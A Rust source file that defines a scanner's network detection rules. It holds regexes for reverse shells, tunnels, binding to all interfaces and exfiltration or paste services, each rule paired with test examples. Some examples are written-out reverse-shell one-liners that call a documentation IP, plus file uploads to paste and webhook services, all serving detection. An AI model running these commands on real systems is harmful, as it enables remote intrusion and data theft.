//! Doors that are opened to the network.

use super::super::rule::{Category, Rule, Severity};
use Severity::{Critical, High, Medium};

const fn rule(
    severity: Severity,
    id: &'static str,
    pattern: &'static str,
    examples: [&'static str; 2],
) -> Rule {
    Rule::new(Category::Network, severity, id, pattern, examples)
}

pub(super) const RULES: &[Rule] = &[
    rule(
        Critical,
        "reverse_shell",
        r"\b(?:nc|ncat|netcat)\b.*\s-\w*[ec]\b.*(?:/bin/|\b(?:ba|z|da)?sh\b|\bcmd\b)|\bsocat\b.*\bexec:|\bmkfifo\b.*\b(?:nc|ncat|netcat)\b",
        ["nc 203.0.113.9 4444 -e /bin/sh", "nc -z localhost 5432"],
    ),
    rule(
        Critical,
        "bash_reverse_shell",
        r"\b(?:bash|sh|zsh)\s+-i\b.*/dev/(?:tcp|udp)/|\bexec\s+\d+<>\s*/dev/(?:tcp|udp)/|>&\s*/dev/(?:tcp|udp)/",
        [
            "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
            "timeout 1 bash -c '</dev/tcp/localhost/5432'",
        ],
    ),
    rule(
        Critical,
        "python_socket_oneliner",
        r"\bpython[23]?\s+-c\s+.*\bsocket\b.*\b(?:connect|dup2|subprocess|pty)\b",
        [
            "python3 -c 'import socket,pty;s=socket.socket();s.connect((\"h\",1))'",
            "python3 -c 'import json; print(json.dumps({}))'",
        ],
    ),
    rule(
        High,
        "tunnel_service",
        r"\bngrok\s+(?:http|tcp|tls|start)\b|\bngrok\.(?:io|app|com)\b|\blocaltunnel\b|\bserveo\.net\b|\bcloudflared\s+tunnel\b|\bbore\.pub\b|\bpagekite\b|\blocalhost\.run\b",
        ["ngrok http 8080", "Tunnel vision is a common mistake."],
    ),
    rule(
        High,
        "bind_all_interfaces",
        r#"\b0\.0\.0\.0:\d+|--(?:host|bind|address)[ =]["']?0\.0\.0\.0\b|\.bind\s*\(\s*\(?\s*["'](?:0\.0\.0\.0)?["']|\bINADDR_ANY\b|\bhost\s*[=:]\s*["']0\.0\.0\.0"#,
        [
            "uvicorn app:app --host 0.0.0.0",
            "uvicorn app:app --host 127.0.0.1",
        ],
    ),
    rule(
        High,
        "python_socket_connect",
        r#"\bsocket\.create_connection\s*\(|\.connect\s*\(\s*\(\s*["'\w]"#,
        [
            "s.connect((\"203.0.113.9\", 4444))",
            "db = sqlite3.connect(\"notes.db\")",
        ],
    ),
    rule(
        High,
        "exfil_service",
        r"\b(?:webhook\.site|requestbin\.(?:com|net)|pipedream\.net|burpcollaborator\.net|oastify\.com|interact\.sh|requestcatcher\.com|beeceptor\.com|hookbin\.com|canarytokens\.(?:com|org))\b",
        [
            "curl https://webhook.site/0000-1111",
            "The webhook of the site is called on push.",
        ],
    ),
    rule(
        Medium,
        "hardcoded_ip_port",
        r"\b(?:\d{1,3}\.){3}\d{1,3}:\d{2,5}\b",
        ["server = 203.0.113.9:4444", "server = 127.0.0.1:8080"],
    )
    .unless(r"\b(?:127\.\d{1,3}|0\.0)\.\d{1,3}\.\d{1,3}:"),
    rule(
        Medium,
        "paste_service",
        r"\b(?:pastebin\.com|paste\.ee|hastebin\.com|dpaste\.(?:com|org)|termbin\.com|0x0\.st|transfer\.sh|file\.io)\b",
        [
            "curl -F 'file=@notes' https://0x0.st",
            "Paste it into the editor.",
        ],
    ),
];
